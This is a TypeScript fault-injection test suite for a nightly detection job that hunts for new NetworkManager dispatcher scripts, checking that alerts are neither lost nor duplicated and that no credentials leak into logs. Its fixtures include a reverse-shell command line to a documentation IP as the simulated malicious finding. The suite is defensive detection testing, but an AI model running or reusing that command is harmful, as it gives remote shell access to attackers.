import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { DynamoDBClient, PutItemCommand } from '@aws-sdk/client-dynamodb';
import { GetSecretValueCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
import { mockClient } from 'aws-sdk-client-mock';
import { DynamoDbBaselineStore } from '../functions/adapters/dynamodb-baseline-store';
import { parseRuntimeEnvironment } from '../functions/adapters/runtime-environment';
import { errorMessage } from '../functions/core/errors';
import { fingerprintOf } from '../functions/core/finding';
import { huntById } from '../functions/core/hunts';
import type { RunLog } from '../functions/core/nightly-run';
import { Redactor } from '../functions/core/redact';
import { startElasticsearchStandIn, verificationException, type ElasticsearchStandIn, type RecordedRequest, type StandInReply } from '../functions/local/elasticsearch-stand-in';
import { startEmbeddedDynamoDb, type EmbeddedDynamoDb } from '../functions/local/embedded-dynamodb';
import { runNightlyJob } from '../functions/nightly-job';
import { internalError, rejected, startDynamoFaultProxy, throttled, type DynamoFaultProxy, type FaultRule } from './support/dynamodb-fault-proxy';
import { answerFromRecordedGroups } from '../functions/local/recorded-groups';
import { CHILD_COLUMNS, WRITE_COLUMNS, childGroup, childRow, responseFor, writeGroup, writeRow } from './support/rows';

/* Every case: night 1 learns; night 2 brings one new script write and one new child process while a fault
   is injected; then Lambda's retry a minute later (same request id) and a run the next night. Across all runs,
   each new finding must be alerted once (a named duplicate window aside), no later than the retry unless the
   case says why, and nothing may be lost. */

const API_KEY = 'VnVXTjNvRUJ2dDBFcjNsT0pHbHM6c3VwZXItc2VjcmV0LWtleS12YWx1ZQ==';
const PASSWORD = 'correct-horse-battery-staple-42';
const CLOUD_ID = 'prod:ZXUtd2VzdC0xLmF3cy5mb3VuZC5pbyRhYmNkZWYkZ2hpams=';
const SECRET_VALUES = [API_KEY, PASSWORD, CLOUD_ID, 'super-secret-key-value'];
const SECRET_ID = 'nm-dispatcher-hunt/elasticsearch';
const T0 = Date.parse('2026-11-24T02:00:00.000Z');

const STOCK_WRITE = writeGroup('/etc/NetworkManager/dispatcher.d/01-ifupdown', '/usr/bin/cp');
const STOCK_CHILD = childGroup({ parent_script: '/etc/NetworkManager/dispatcher.d/01-ifupdown', 'process.executable': '/usr/bin/logger', masked_command_line: 'logger up' });
const NEW_WRITE = writeGroup('/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', '/usr/bin/bash');
const NEW_CHILD = childGroup({ parent_script: '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', 'process.executable': '/usr/bin/nohup', masked_command_line: 'nohup bash -i >& /dev/tcp/203.0.113.66/4444 0>&1' });
/** The rare-group query (phase 1), as opposed to the samples for those groups. */
const isRareGroupQuery = (request: RecordedRequest) => !String(request.body.query ?? '').includes('VALUES(');
const NEW_PATHS = ['/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh|/usr/bin/bash', "/usr/bin/nohup|nohup bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"];

type EsFault = (request: RecordedRequest, hunt: 'child' | 'write', attempt: number) => StandInReply | undefined;

interface FaultCase {
  readonly name: string;
  readonly es?: EsFault;
  readonly dynamo?: FaultRule;
  readonly sns?: 'fail-once' | 'lost-response';
  readonly secret?: string | Error;
  /** What the faulty run must say (in its error, a problem or a log line). */
  readonly says: RegExp;
  readonly outcome: 'succeeded' | 'failed' | 'threw';
  /** A named duplicate window of the README's "Reliability" section: the finding may be alerted twice. */
  readonly mayRepeatOnce?: boolean;
  /** The latest run allowed to deliver the first alert (default: Lambda's retry, a minute after the fault). */
  readonly alertedBy?: RunLabel;
  readonly dynamoFactory?: (db: EmbeddedDynamoDb, table: string, runAt: (at: number, runId: string) => Promise<unknown>) => FaultRule;
  /** Night 2 runs twice at once with different request ids (no reserved concurrency). */
  readonly concurrent?: boolean;
  /** Runs inside SNS's Publish call, before it answers. */
  readonly duringPublish?: (store: DynamoDbBaselineStore) => Promise<void>;
  /** Findings an analyst approves during the case: they end approved, not alerted. */
  readonly approved?: readonly string[];
}

type RunLabel = 'night 2' | 'retry' | 'night 3';
const RUN_ORDER: RunLabel[] = ['night 2', 'retry', 'night 3'];
const LEASE_MS = 1_200_000;

const esError = (status: number, type: string, reason: string): StandInReply => ({ status, body: { error: { root_cause: [{ type, reason }], type, reason }, status } });
const NEW_WRITE_FINGERPRINT = fingerprintOf(huntById('dispatcher-script-write')!, { 'file.path': '/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh', 'process.executable': '/usr/bin/bash', agent: 'agent-1' });
const once = <T>(fault: T) => {
  let used = false;
  return () => (used ? undefined : ((used = true), fault));
};

const CASES: FaultCase[] = [
  { name: 'Elasticsearch 401 (wrong API key)', es: () => esError(401, 'security_exception', 'unable to authenticate with provided credentials'), says: /401.*wrong, expired or revoked/, outcome: 'failed' },
  { name: 'Elasticsearch 403 on the process index', es: (_r, hunt) => (hunt === 'child' ? esError(403, 'security_exception', 'action [indices:data/read/esql] is unauthorized for API key id [x] on indices [logs-endpoint.events.process-default]') : undefined), says: /403.*"read" and "view_index_metadata" index privileges on logs-endpoint\.events\.process-\*/, outcome: 'failed' },
  { name: 'Elasticsearch 429 then success', es: (_r, _h, attempt) => (attempt < 2 ? esError(429, 'es_rejected_execution_exception', 'rejected execution') : undefined), says: /retrying Elasticsearch/, outcome: 'succeeded' },
  { name: 'Elasticsearch 503 then success', es: (_r, _h, attempt) => (attempt < 1 ? { status: 503, body: { error: 'unavailable' } } : undefined), says: /retrying Elasticsearch/, outcome: 'succeeded' },
  { name: 'connection reset then success', es: (_r, _h, attempt) => (attempt < 1 ? { status: 200, body: {}, reset: true } : undefined), says: /retrying Elasticsearch/, outcome: 'succeeded' },
  { name: 'query outlasts the timeout (async API)', es: (r) => (r.path.startsWith('/_query?') ? { status: 200, body: {}, delayMs: 2_500 } : undefined), says: /hunt finished/, outcome: 'succeeded' },
  { name: 'unknown index (data source absent)', es: (_r, hunt) => (hunt === 'write' ? { status: 400, body: verificationException('Found 1 problem\nline 1:6: Unknown index [logs-endpoint.events.file-*]') } : undefined), says: /no data from this source, so the hunt is blind/, outcome: 'succeeded' },
  { name: 'unknown field (mappings missing)', es: (_r, hunt) => (hunt === 'child' ? { status: 400, body: verificationException('Found 1 problem\nline 3:5: Unknown column [process.parent.executable]') } : undefined), says: /Unknown column \[process\.parent\.executable\]/, outcome: 'failed' },
  { name: 'malformed JSON', es: (_r, hunt) => (hunt === 'write' ? { status: 200, body: '{"columns": [', raw: true } : undefined), says: /not valid JSON/, outcome: 'failed' },
  { name: 'missing columns', es: (_r, hunt) => (hunt === 'write' ? { status: 200, body: { columns: [{ name: 'file.path', type: 'keyword' }], values: [['/x']] } } : undefined), says: /lacks columns/, outcome: 'failed' },
  { name: 'wrong types', es: (_r, hunt) => (hunt === 'child' ? { status: 200, body: responseFor(CHILD_COLUMNS, [childRow({ event_count: 'seven' })]) } : undefined), says: /not a count/, outcome: 'failed' },
  { name: 'is_partial: true', es: (r, hunt) => (hunt === 'write' && isRareGroupQuery(r) ? { status: 200, body: responseFor(WRITE_COLUMNS, [writeRow(STOCK_WRITE), writeRow(NEW_WRITE)], { is_partial: true }) } : undefined), says: /partial results/, outcome: 'failed' },
  { name: 'DynamoDB throttling', dynamo: ((count = 0) => (op: string) => (op === 'BatchGetItem' && count++ < 2 ? throttled() : undefined))(), says: /run finished/, outcome: 'succeeded' },
  { name: 'DynamoDB unprocessed keys', dynamo: (op) => (op === 'BatchGetItem' ? { kind: 'partial-batch', keep: 1 } : undefined), says: /run finished/, outcome: 'succeeded' },
  {
    name: 'conditional-check failure from a racing run',
    says: /claimed by another run still in progress \(racing-run/,
    outcome: 'succeeded',
    // The racing run died without Lambda's retry: its claim lapses after the lease, and the next run alerts.
    alertedBy: 'night 3',
    dynamoFactory: (db, table) => {
      const compete = once(true);
      return (op, body) => {
        if (op !== 'PutItem' || !compete()) return undefined;
        // Another run claims the same fingerprint first, then dies before publishing.
        const item = { ...(body.Item as Record<string, unknown>), claimRunId: { S: 'racing-run' } };
        return { kind: 'before', action: async () => void (await db.client.send(new PutItemCommand({ TableName: table, Item: item as never }))) };
      };
    },
  },
  { name: 'SNS publish fails', sns: 'fail-once', says: /Publishing the notification failed/, outcome: 'failed' },
  { name: 'DynamoDB fails after publish, before marking (transient)', dynamo: ((count = 0) => (op: string) => (op === 'UpdateItem' && count++ < 2 ? internalError() : undefined))(), says: /notification published/, outcome: 'succeeded' },
  { name: 'secret missing', secret: Object.assign(new Error('Secrets Manager can’t find the specified secret.'), { name: 'ResourceNotFoundException' }), says: /does not exist in this account and region/, outcome: 'threw' },
  { name: 'secret not JSON', secret: `apiKey=${API_KEY}`, says: /secret is not valid JSON/, outcome: 'threw' },
  { name: 'secret missing fields', secret: JSON.stringify({ cloudId: CLOUD_ID, username: 'hunter' }), says: /field "password": missing/, outcome: 'threw' },
  { name: 'secret wrong types', secret: JSON.stringify({ node: 'https://es.example.com', apiKey: 12345, password: PASSWORD }), says: /field "apiKey": must be a non-empty string/, outcome: 'threw' },
  { name: 'crash reading the learning state', dynamo: (op) => (op === 'GetItem' ? rejected() : undefined), says: /Injected failure/, outcome: 'threw' },
  { name: 'crash reading the baseline', dynamo: (op) => (op === 'BatchGetItem' ? rejected() : undefined), says: /Injected failure/, outcome: 'threw' },
  { name: 'crash listing pending entries', dynamo: (op, body) => (op === 'Query' && body.IndexName === 'pending' ? rejected() : undefined), says: /Injected failure/, outcome: 'threw' },
  { name: 'crash claiming new findings', dynamo: (op) => (op === 'PutItem' ? rejected() : undefined), says: /Injected failure/, outcome: 'threw' },
  { name: 'crash after publish, before marking', dynamo: (op, body) => (op === 'UpdateItem' && String(body.UpdateExpression).includes('alertMessageId') ? rejected() : undefined), says: /could not be marked alerted/, outcome: 'succeeded', mayRepeatOnce: true },
  {
    name: "crash after claiming; Lambda's retry (same request id)",
    // Nothing after the claims reaches the table, not even their release: as after a timeout or an out-of-memory kill.
    dynamo: (op, body) => ((op === 'Query' && body.IndexName === 'by-anchor') || op === 'UpdateItem' ? rejected() : undefined),
    says: /Injected failure/,
    outcome: 'threw',
  },
  { name: 'two concurrent runs (no reserved concurrency)', concurrent: true, says: /claimed by another run still in progress/, outcome: 'succeeded' },
  { name: 'SNS accepted the message, its answer was lost', sns: 'lost-response', says: /Publishing the notification failed/, outcome: 'failed', mayRepeatOnce: true },
  {
    name: 'run outlives its claim; another run takes over',
    says: /taken over by another run before this one published/,
    outcome: 'succeeded',
    dynamoFactory: (_db, _table, runAt) => {
      const sleep = once(true);
      return (op, body) => {
        if (op !== 'Query' || body.IndexName !== 'by-anchor' || !sleep()) return undefined;
        // The run stalls after claiming (a laptop's lid closes) while a later run finds its claims lapsed.
        return { kind: 'before', action: async () => void (await runAt(T0 + 86_400_000 + LEASE_MS + 60_000, 'run-takeover')) };
      };
    },
  },
  {
    name: 'an analyst approves a finding while its run publishes',
    duringPublish: async (store) => void (await store.approve(NEW_WRITE_FINGERPRINT, 'our VPN hook', 'alice', new Date(T0 + 86_400_000))),
    approved: [NEW_PATHS[0]!],
    says: /notification published/,
    outcome: 'succeeded',
  },
  { name: 'crash recording known findings', dynamo: (op, body) => (op === 'UpdateItem' && String(body.ConditionExpression).includes('revision') ? rejected() : undefined), says: /Injected failure/, outcome: 'threw' },
];

let db: EmbeddedDynamoDb;
let proxy: DynamoFaultProxy;
let es: ElasticsearchStandIn;
let esFault: EsFault | undefined;
let night: 1 | 2 = 1;
const attempts = new Map<string, number>();
const sns = mockClient(SNSClient);
const secretsManager = mockClient(SecretsManagerClient);
const results: { name: string; lost: number; duplicates: number; alertedBy: string; survived: boolean }[] = [];
/** Messages SNS accepted (a rejected publish delivers nothing), with the run that published them. */
let delivered: { run: RunLabel; input: { Message?: string } }[] = [];
let currentRun: RunLabel = 'night 2';
let failNextPublish: false | 'fail-once' | 'lost-response' = false;
let duringPublish: (() => Promise<void>) | undefined;
let nextSecret: string | Error | undefined;
let goodSecret = '';

before(async () => {
  db = await startEmbeddedDynamoDb();
  proxy = await startDynamoFaultProxy(db.endpoint);
  es = await startElasticsearchStandIn({
    majorVersion: 8,
    respond: (request) => {
      const hunt = String(request.body.query ?? '').includes('process-*') ? 'child' : 'write';
      const key = `${hunt}:${request.path.split('?')[0]}`;
      const attempt = attempts.get(key) ?? 0;
      attempts.set(key, attempt + 1);
      const fault = night === 2 ? esFault?.(request, hunt, attempt) : undefined;
      if (fault) return fault;
      if (request.method === 'DELETE') return { status: 200, body: { acknowledged: true } };
      // From night 2 on the stock rows have a later event, so that the run records their observation.
      const later = night === 2 ? { last_seen: '2026-11-25T01:00:00.000Z' } : {};
      return answerFromRecordedGroups(request, {
        'dispatcher-script-child': [{ ...STOCK_CHILD, ...later }, ...(night === 2 ? [NEW_CHILD] : [])],
        'dispatcher-script-write': [{ ...STOCK_WRITE, ...later }, ...(night === 2 ? [NEW_WRITE] : [])],
      });
    },
  });
});

after(async () => {
  await es.close();
  await proxy.close();
  await db.close();
  const rows = results.map((r) => `| ${r.name.padEnd(56)} | ${(r.survived ? 'yes' : 'NO').padEnd(8)} | ${String(r.lost).padStart(4)} | ${String(r.duplicates).padStart(16)} | ${r.alertedBy.padEnd(10)} |`);
  console.log(['', 'Fault injection summary', `| ${'fault injected'.padEnd(56)} | survived | lost | duplicate alerts | alerted by |`, ...rows, `${results.length} faults injected, ${results.filter((r) => r.survived).length} survived, ${results.reduce((n, r) => n + r.lost, 0)} findings lost, ${results.reduce((n, r) => n + r.duplicates, 0)} duplicate alerts (named windows only)`, ''].join('\n'));
});

/** Every delivered message, as the identities it alerted. */
function alertedIdentities(upTo: RunLabel = 'night 3'): string[] {
  return delivered.filter((d) => RUN_ORDER.indexOf(d.run) <= RUN_ORDER.indexOf(upTo)).flatMap(({ input }) => {
    const message = JSON.parse(JSON.parse(input.Message!).default) as { newFindings: { items: { identity: Record<string, string | null> }[] } };
    return message.newFindings.items.map((item) => {
      const id = item.identity;
      return id['file.path'] ? `${id['file.path']}|${id['process.executable']}` : `${id['process.executable']}|${id.masked_command_line}`;
    });
  });
}

describe('fault injection', () => {
  for (const fault of CASES) {
    it(`${fault.name}: loses nothing and alerts once`, async () => {
      const table = await db.createTable();
      const lines: string[] = [];
      const errors: string[] = [];
      const log: RunLog = Object.fromEntries(['info', 'warn', 'error'].map((level) => [level, (message: string, details?: Record<string, unknown>) => lines.push(JSON.stringify({ level, message, ...details }))])) as unknown as RunLog;
      const dynamodb = new DynamoDBClient({ endpoint: proxy.endpoint, region: 'us-east-1', credentials: { accessKeyId: 'l', secretAccessKey: 'l' }, maxAttempts: 4 });
      const env = parseRuntimeEnvironment({ BASELINE_TABLE_NAME: table, ALERT_TOPIC_ARN: 'arn:aws:sns:us-east-1:111122223333:alerts', ES_SECRET_ID: SECRET_ID });
      goodSecret = JSON.stringify({ node: es.url, apiKey: API_KEY });
      delivered = [];
      failNextPublish = false;
      nextSecret = undefined;
      duringPublish = undefined;
      sns.reset();
      sns.on(PublishCommand).callsFake(async (input: { Message?: string }) => {
        if (failNextPublish === 'fail-once') {
          failNextPublish = false;
          throw new Error('InternalError: SNS is unavailable (injected)');
        }
        delivered.push({ run: currentRun, input });
        if (failNextPublish === 'lost-response') {
          failNextPublish = false;
          throw Object.assign(new Error('socket hang up (injected after SNS accepted the message)'), { name: 'TimeoutError' });
        }
        const hook = duringPublish;
        duringPublish = undefined;
        await hook?.();
        return { MessageId: `mid-${delivered.length}` };
      });
      secretsManager.reset();
      secretsManager.on(GetSecretValueCommand).callsFake(() => {
        const secret = nextSecret ?? goodSecret;
        nextSecret = undefined;
        if (secret instanceof Error) throw secret;
        return { SecretString: secret };
      });

      const run = async (at: number, runId = `run-${at}`) => {
        try {
          return await runNightlyJob({
            env,
            clients: { dynamodb, sns: new SNSClient({ region: 'us-east-1' }), secrets: new SecretsManagerClient({ region: 'us-east-1' }) },
            runId,
            deadline: at + 555_000,
            invocationEndsAt: at + 600_000,
            log,
            secretSink: new Redactor(),
            clock: () => new Date(at),
            retry: { maxAttempts: 3, baseDelayMs: 1, maxDelayMs: 5 },
            esRequestTimeoutMs: fault.name.includes('timeout') ? 200 : 10_000,
          });
        } catch (error) {
          errors.push(errorMessage(error));
          return undefined;
        }
      };

      night = 1;
      esFault = undefined;
      proxy.rule = () => undefined;
      assert.equal((await run(T0))?.outcome, 'succeeded');

      const store = new DynamoDbBaselineStore(db.client, table);
      night = 2;
      currentRun = 'night 2';
      attempts.clear();
      esFault = fault.es;
      proxy.rule = fault.dynamoFactory ? fault.dynamoFactory(db, table, run) : fault.dynamo ?? (() => undefined);
      failNextPublish = fault.sns ?? false;
      if (fault.duringPublish) duringPublish = () => fault.duringPublish!(store);
      nextSecret = fault.secret;
      const nightTwo = T0 + 86_400_000;
      const [faulty, concurrent] = await Promise.all([run(nightTwo, 'request-night-2'), fault.concurrent ? run(nightTwo, 'request-night-2-twin') : undefined]);
      assert.equal(faulty?.outcome ?? 'threw', fault.outcome, errors.join('\n') || JSON.stringify(faulty?.problems));
      if (fault.concurrent) assert.equal(concurrent?.outcome, 'succeeded', JSON.stringify(concurrent?.problems));
      assert.match([...errors, ...(faulty?.problems ?? []), ...lines].join('\n'), fault.says);

      esFault = undefined;
      proxy.rule = () => undefined;
      currentRun = 'retry';
      await run(nightTwo + 60_000, 'request-night-2'); // Lambda's retry of the failed invocation keeps its request id
      currentRun = 'night 3';
      await run(T0 + 2 * 86_400_000); // the next night

      const alerted = alertedIdentities();
      const latest = fault.alertedBy ?? 'retry';
      const lateOrMissing = NEW_PATHS.filter((p) => !(fault.approved ?? []).includes(p) && !alertedIdentities(latest).includes(p));
      const statuses = new Map<string, string>();
      for await (const entry of store.list()) {
        const id = entry.identity;
        statuses.set(id['file.path'] ? `${id['file.path']}|${id['process.executable']}` : `${id['process.executable']}|${id.masked_command_line}`, entry.status);
      }
      const lost = NEW_PATHS.filter((p) => !alerted.includes(p) && !['pending', 'approved'].includes(statuses.get(p) ?? '')).length;
      const repeats = NEW_PATHS.map((p) => Math.max(0, alerted.filter((a) => a === p).length - 1));
      const duplicates = repeats.reduce((a, b) => a + b, 0);
      const allowed = fault.mayRepeatOnce ? 1 : 0;
      const firstAlert = RUN_ORDER.find((label) => NEW_PATHS.every((p) => (fault.approved ?? []).includes(p) || alertedIdentities(label).includes(p))) ?? 'never';
      results.push({ name: fault.name, lost, duplicates, alertedBy: firstAlert, survived: lost === 0 && repeats.every((r) => r <= allowed) && lateOrMissing.length === 0 });
      assert.equal(lost, 0, `lost findings; alerted: ${alerted.join(', ')}`);
      assert.ok(repeats.every((r) => r <= allowed), `duplicates: ${alerted.join(', ')}`);
      assert.deepEqual(lateOrMissing, [], `not alerted by the ${latest}: ${delivered.map((d) => d.run).join(', ')}`);
      for (const p of NEW_PATHS) assert.equal(statuses.get(p), (fault.approved ?? []).includes(p) ? 'approved' : 'alerted', p);

      // Secrets hygiene: nothing logged or thrown carries a credential.
      for (const text of [...lines, ...errors]) for (const secret of SECRET_VALUES) assert.ok(!text.includes(secret), `secret in: ${text.slice(0, 120)}`);
      dynamodb.destroy();
    });
  }
});
